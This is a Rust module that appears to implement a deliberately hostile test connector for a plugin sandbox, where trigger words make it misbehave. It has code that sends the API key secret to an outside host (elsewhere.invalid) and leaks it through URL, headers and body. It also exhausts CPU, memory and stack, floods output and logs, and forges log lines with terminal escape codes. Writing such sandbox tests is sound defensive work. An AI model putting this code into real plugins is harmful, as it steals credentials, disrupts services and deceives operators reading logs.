//! What a connector may try, each under a word.
use crate::Settings;
use hub_plugin_sdk::events::payment::PaymentForeign;
use hub_plugin_sdk::log;
use hub_plugin_sdk::prelude::*;
use std::hint::black_box;
use std::sync::atomic::{AtomicU32, Ordering::Relaxed};

/// Every word that [`commit`] knows, so that a test can try them all.
pub const WORDS: [&str; 13] = [
    "loop",
    "alloc",
    "flood",
    "deluge",
    "events",
    "panic",
    "recurse",
    "log-flood",
    "send-forever",
    "send-elsewhere",
    "leak-secrets",
    "static-counter",
    "two-requests",
];

/// Longer than any word.
const WORD_BYTES_MAX: usize = 32;
/// More than any limit of the sandbox.
const TOO_MANY_BYTES: usize = 200 * 1024 * 1024;
/// More than an output may have.
const FLOOD_BYTES: usize = 2 * 1024 * 1024;
/// More than the host would even copy, and less than a memory.
const DELUGE_BYTES: usize = 6 * 1024 * 1024;
const TOO_MANY_EVENTS: usize = 2_000;
const TOO_MANY_LINES: usize = 1_000;

/// The word that a body begins with; JSON begins with none. What follows the word only makes the
/// delivery another one.
pub fn word(body: &[u8]) -> &str {
    let start = &body[..body.len().min(WORD_BYTES_MAX)];
    let word = start.split(u8::is_ascii_whitespace).next().unwrap_or_default();
    std::str::from_utf8(word).unwrap_or_default()
}

/// Does what the word says, if it is one of [`WORDS`].
pub async fn commit(ctx: &Ctx, word: &str) -> Result<Option<Received>, Error> {
    let received = match word {
        "loop" => run_forever(),
        "alloc" => take_memory(),
        "flood" => Received::events([told("x".repeat(FLOOD_BYTES))]),
        "deluge" => Received::events([told("x".repeat(DELUGE_BYTES))]),
        "events" => Received::events((0..TOO_MANY_EVENTS).map(|n| told(n.to_string()))),
        "panic" => panic!("the hostile connector panics, as it was told to"),
        "recurse" => told_once(recurse(1)),
        "log-flood" => {
            for n in 0..TOO_MANY_LINES {
                log::info(format!(
                    "line {n}\r\n\u{1b}[31mforged: all is well\u{1b}[0m{}",
                    "x".repeat(9_000)
                ));
            }
            Received::nothing()
        }
        "send-forever" => loop {
            ctx.try_send(get(ctx, "again")?).await;
        },
        "send-elsewhere" => {
            let request =
                Request::get("https://elsewhere.invalid/").header("x-key", [secret("api_key")]);
            ctx.send(request).await?;
            Received::nothing()
        }
        "leak-secrets" => leak_secrets(ctx).await?,
        "static-counter" => told_once(count()),
        "two-requests" => {
            let first = ctx.send(get(ctx, "first")?).await?.status;
            let second = ctx.send(get(ctx, "second")?).await?.status;
            told_once(format!("{first} {second}"))
        }
        _ => return Ok(None),
    };
    Ok(Some(received))
}

/// Never returns.
pub fn run_forever() -> ! {
    let mut turns = 0u64;
    loop {
        turns = black_box(turns.wrapping_add(1));
    }
}

fn take_memory() -> ! {
    let mut all = Vec::new();
    while all.len() * (1 << 20) < TOO_MANY_BYTES {
        all.push(black_box(vec![1u8; 1 << 20]));
    }
    panic!("the sandbox gave {} MiB", all.len());
}

#[allow(unconditional_recursion, reason = "that is the misdeed")]
fn recurse(depth: u64) -> u64 {
    let frame = black_box([depth; 64]);
    recurse(depth + 1) + frame[(depth % 64) as usize]
}

/// 1 in a fresh instance; more if anything outlives a call.
fn count() -> u32 {
    static CALLS: AtomicU32 = AtomicU32::new(0);
    CALLS.fetch_add(1, Relaxed) + 1
}

/// Puts the secret wherever a request may name it, then tells whatever came back.
async fn leak_secrets(ctx: &Ctx) -> Result<Received, Error> {
    let hex = || recipe(Recipe::new().secret("api_key").encode(Encoding::Hex));
    let request = get(ctx, "echo?key=")?
        .url_part(secret("api_key"))
        .header("x-key", [secret("api_key")])
        .header("x-hex", [hex()])
        .body([text("key="), secret("api_key"), text(" hex="), hex()]);
    let came_back = match ctx.try_send(request).await {
        Reply::Response(response) => {
            let headers = response
                .headers
                .iter()
                .map(|(name, value)| format!("{name}={}", String::from_utf8_lossy(value)))
                .collect::<Vec<_>>()
                .join(" ");
            format!("{headers} {}", String::from_utf8_lossy(&response.body))
        }
        Reply::NotSent(why) | Reply::NoAnswer(why) => why,
    };
    log::info(&came_back);
    Ok(told_once(&came_back).acknowledge(200, came_back))
}

fn get(ctx: &Ctx, path: &str) -> Result<Request, Error> {
    let settings: Settings = ctx.settings()?;
    Ok(Request::get(format!("{}/{path}", settings.api_base)))
}

fn told_once(what: impl ToString) -> Received {
    Received::events([told(what.to_string())])
}

/// An event that carries text of ours.
fn told(what: String) -> Event {
    Event::new(PaymentForeign {
        vendor_payment: what,
        vendor_type: "misdeed".to_owned(),
        amount: None,
    })
}
